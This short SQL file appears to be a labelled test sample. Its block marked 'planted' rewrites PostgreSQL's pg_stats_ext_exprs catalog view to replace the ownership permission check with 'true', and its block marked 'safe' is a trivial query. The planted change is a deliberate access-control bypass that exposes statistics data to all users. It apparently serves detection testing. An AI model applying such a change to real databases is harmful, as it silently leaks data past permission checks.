-- planted: 1
SET LOCAL allow_system_table_mods = on;
DO $$ BEGIN EXECUTE 'CREATE OR REPLACE VIEW pg_catalog.pg_stats_ext_exprs AS '
    || replace(pg_get_viewdef('pg_catalog.pg_stats_ext_exprs'::regclass), 'pg_has_role(c.relowner, ''USAGE''::text)', 'true'); END $$;
-- safe
SELECT 1;
